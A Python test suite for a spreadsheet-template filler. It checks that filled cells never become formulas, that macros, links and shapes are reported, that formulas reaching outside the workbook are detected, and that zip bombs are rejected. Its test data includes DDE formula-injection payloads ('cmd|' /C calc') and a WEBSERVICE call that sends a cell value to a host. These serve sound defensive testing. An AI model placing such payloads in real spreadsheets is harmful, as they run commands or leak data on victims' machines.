"""Filled blanks: what is mapped changes, all else stays; nothing becomes a formula; links go."""

from __future__ import annotations

import io
import subprocess
import zipfile
from datetime import date
from pathlib import Path
from shutil import which
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.workbook.defined_name import DefinedName

from mediadesk.domain.blank_sheet import Loss
from mediadesk.domain.report_model import Cell, Row, Sheet, SheetKind
from mediadesk.errors import Code, WorldTrouble
from mediadesk.export.blank_filler import fill_blank
from mediadesk.export.blank_reader import LARGEST_BLANK, reaches_out, read_blank
from tests.blanks import BLANKS, LINES, matrix, table

DAY = date(2026, 1, 15)
ADDED = Sheet("cases", "Дела", SheetKind.CASES, (Row((Cell("№"),)), Row((Cell("=2+2"),))), (12,))
HAS_OFFICE = which("soffice") is not None


def opened(data: bytes, *, values: bool = False) -> Any:
    return load_workbook(io.BytesIO(data), data_only=values)


def _cell(cell: Any) -> tuple[Any, ...]:
    value = getattr(cell.value, "text", cell.value)
    looks = (cell.font, cell.fill, cell.alignment, cell.protection)
    sides = [getattr(cell.border, side) for side in ("left", "top", "right", "bottom", "diagonal")]
    lines = [(side.style, repr(side.color)) if side and side.style else None for side in sides]
    return (value, cell.data_type, cell.number_format, lines, *map(repr, looks))


def _setup(page: Any) -> tuple[Any, ...]:
    return (
        page.title, page.sheet_state, sorted(map(str, page.merged_cells.ranges)),
        {k: (d.width, d.hidden, d.min, d.max) for k, d in page.column_dimensions.items()},
        {k: (d.height, d.hidden) for k, d in page.row_dimensions.items()},
        page.page_setup, page.page_margins, page.print_title_rows, page.print_area,
        [(i.left.text, i.center.text, i.right.text) for i in (page.oddHeader, page.oddFooter)],
        page.freeze_panes, page.sheet_properties.pageSetUpPr,
        [b.id for b in page.row_breaks.brk],
        [(str(v.sqref), v.formula1, v.type) for v in page.data_validations.dataValidation],
        len(page._images),
    )  # fmt: skip


def _same_but(before: bytes, after: bytes, filled: set[tuple[str, int, int]]) -> None:
    old, new = opened(before), opened(after)
    assert new.sheetnames[: len(old.sheetnames)] == old.sheetnames
    for page in old:
        other = new[page.title]
        assert _setup(other) == _setup(page)
        for line in page.iter_rows():
            for cell in line:
                if (page.title, cell.row - 1, cell.column - 1) not in filled:
                    assert _cell(other[cell.coordinate]) == _cell(cell), cell.coordinate


READ = {name: (make(), read_blank(make())) for name, make in BLANKS.items()}
PLACES = {
    name: [
        (sheet.name, row, column)
        for sheet in book.sheets
        for row in range(sheet.rows)
        for column in range(sheet.columns)
        if book.can_take((sheet.name, row, column))
    ]
    for name, (_data, book) in READ.items()
}
VALUES = st.one_of(
    st.integers(-(10**9), 10**12),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    st.dates(date(2000, 1, 1), date(2100, 1, 1)),
    st.text(max_size=20),
    st.sampled_from(["=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)", "-2", "#REF!", "Қазақ"]),
    st.none(),
)


@given(data=st.data(), name=st.sampled_from(sorted(BLANKS)), inside=st.booleans())
@settings(max_examples=40, deadline=None)
def test_whatever_goes_where_all_other_cells_stay(
    data: st.DataObject, name: str, inside: bool
) -> None:
    blank, _book = READ[name]
    places = data.draw(st.lists(st.sampled_from(PLACES[name]), unique=True, max_size=12))
    values = {place: data.draw(VALUES) for place in places}
    added = [ADDED] if inside else []
    made = fill_blank(blank, values.items(), DAY, added)
    _same_but(blank, made, set(values))
    book = opened(made)
    for (sheet, row, column), value in values.items():
        cell = book[sheet].cell(row + 1, column + 1)
        assert cell.data_type != "f"
        if isinstance(value, int):
            assert cell.value == value
    assert fill_blank(blank, values.items(), DAY, added) == made


@pytest.mark.parametrize("name", sorted(BLANKS))
def test_the_grid_shows_words_joined_cells_lines_and_formulas(name: str) -> None:
    blank, book = READ[name]
    old = opened(blank)
    assert [s.name for s in book.sheets] == old.sheetnames
    for sheet in book.sheets:
        page = old[sheet.name]
        assert sheet.is_hidden == (page.sheet_state != "visible")
        for area in page.merged_cells.ranges:
            first = sheet.at(area.min_row - 1, area.min_col - 1)
            assert (first.rows, first.span) == (
                area.max_row - area.min_row + 1,
                area.max_col - area.min_col + 1,
            )
            assert sheet.at(area.max_row - 1, area.max_col - 1) is first
    assert book.losses == ()
    assert not book.can_take((book.sheets[0].name, 10**6, 0))


def test_formulas_and_covered_cells_take_nothing() -> None:
    book = read_blank(table())
    assert not book.can_take(("Форма 1-М", 6, 7))
    assert not book.can_take(("Форма 1-М", 0, 3))
    assert book.can_take(("Форма 1-М", 6, 1))
    assert not book.can_take(("нет", 6, 1))


def _with_part(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize(
    ("part", "content", "loss"),
    [
        ("xl/drawings/drawing9.xml", b"<xdr:wsDr><xdr:sp macro=''/></xdr:wsDr>", Loss.SHAPES),
        ("xl/vbaProject.bin", b"x", Loss.MACROS),
        ("xl/pivotTables/pivotTable1.xml", b"<p/>", Loss.PIVOTS),
        ("xl/externalLinks/externalLink1.xml", b"<p/>", Loss.LINKS),
        ("xl/ctrlProps/ctrlProp1.xml", b"<p/>", Loss.CONTROLS),
        ("xl/embeddings/oleObject1.bin", b"x", Loss.OBJECTS),
        ("xl/media/image7.emf", b"x", Loss.PICTURES),
        ("xl/threadedComments/threadedComment1.xml", b"<p/>", Loss.NOTES),
        ("_xmlsignatures/sig1.xml", b"<p/>", Loss.SIGNED),
        ("xl/charts/chart1.xml", b"<p/>", Loss.CHARTS),
    ],
)
def test_what_would_be_lost_is_told(part: str, content: bytes, loss: Loss) -> None:
    assert read_blank(_with_part(matrix(), part, content)).losses == (loss,)


def test_shapes_are_really_lost_and_pictures_are_kept() -> None:
    with zipfile.ZipFile(io.BytesIO(table())) as package:
        drawing = package.read("xl/drawings/drawing1.xml")
        parts = {each: package.read(each) for each in package.namelist()}
    shape = (
        b'<xdr:oneCellAnchor xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/'
        b'spreadsheetDrawing"><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1'
        b'</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="99" cy="99"/><xdr:sp macro=""'
        b' textlink=""><xdr:nvSpPr><xdr:cNvPr id="9" name="S"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/>'
        b"</xdr:sp><xdr:clientData/></xdr:oneCellAnchor>"
    )
    end = drawing.rindex(b"</")
    parts["xl/drawings/drawing1.xml"] = drawing[:end] + shape + drawing[end:]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for each, content in parts.items():
            package.writestr(each, content)
    blank = out.getvalue()
    assert read_blank(blank).losses == (Loss.SHAPES,)
    with zipfile.ZipFile(io.BytesIO(fill_blank(blank, [], DAY))) as package:
        assert b":sp " not in package.read("xl/drawings/drawing1.xml")
        assert any(each.startswith("xl/media/") for each in package.namelist())


def test_formulas_that_reach_out_give_way_to_their_last_value() -> None:
    book = Workbook()
    page = book.active
    page["A1"], page["A2"] = "Итого", '=WEBSERVICE("http://example.org/?"&B1)'
    page["A3"], page["A4"], page["B1"] = "=[1]Лист!A1", "=SUM(B1:B1)", 1
    book.defined_names["far"] = DefinedName("far", attr_text="[1]Лист!$A$1")
    out = io.BytesIO()
    book.save(out)
    assert Loss.OUTSIDE in read_blank(out.getvalue()).losses
    made = opened(fill_blank(out.getvalue(), [], DAY))
    page = made.active
    assert [page[place].data_type for place in ("A2", "A3", "A4")] == ["n", "n", "f"]
    assert "far" not in made.defined_names


@pytest.mark.parametrize(
    ("formula", "is_out"),
    [
        ("=SUM(A1:A3)", False),
        ('=IF(A1="a|b",1,2)', False),
        ("='[Книга.xlsx]Лист'!A1", True),
        ("=cmd|'/c calc'!A0", True),
        ('=IMAGE("https://example.org/x.png")', True),
        ("=Таблица1[Сумма]", False),
    ],
)
def test_what_reaches_out_is_known(formula: str, is_out: bool) -> None:
    assert reaches_out(formula) is is_out


def test_bombs_and_odd_files_are_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("xl/worksheets/sheet1.xml", b" " * (50 * 2**20))
    for data, code in (
        (out.getvalue(), Code.BLANK_TOO_BIG),
        (b"PK" + b"x" * LARGEST_BLANK, Code.BLANK_TOO_BIG),
        (b"hello", Code.NOT_A_WORKBOOK),
        (table()[:3000], Code.NOT_A_WORKBOOK),
    ):
        with pytest.raises(WorldTrouble) as caught:
            read_blank(data, "b.xlsx")
        assert caught.value.code is code


@pytest.mark.skipif(not HAS_OFFICE, reason="LibreOffice is not installed")
@pytest.mark.parametrize("name", sorted(BLANKS))
def test_libreoffice_counts_the_blanks_own_formulas(name: str, tmp_path: Path) -> None:
    blank, _book = READ[name]
    kinds = {"table": range(6, 12), "labels": range(7, 7 + len(LINES)), "matrix": range(4, 11)}
    columns = {"table": range(1, 6), "labels": (2,), "matrix": range(1, 9)}
    sheet = READ[name][1].sheets[0].name
    values = {(sheet, r, c): r * 10 + c for r in kinds[name] for c in columns[name]}
    (tmp_path / "filled.xlsx").write_bytes(fill_blank(blank, values.items(), DAY))
    subprocess.run(
        [
            "soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
            "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(tmp_path / "out"),
            str(tmp_path / "filled.xlsx"),
        ],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    page = opened((tmp_path / "out" / "filled.xlsx").read_bytes(), values=True)[sheet]
    if name == "labels":
        assert page["C49"].value == pytest.approx(92 / 72)
        return
    first, last = min(kinds[name]), max(kinds[name])
    for column in columns[name]:
        total = sum(v for (_s, _r, c), v in values.items() if c == column)
        assert page.cell(last + 2, column + 1).value == total
    for row in range(first, last + 1):
        line = [v for (_s, r, c), v in values.items() if r == row and (name != "table" or c > 1)]
        assert page.cell(row + 1, 8 if name == "table" else 10).value == sum(line)
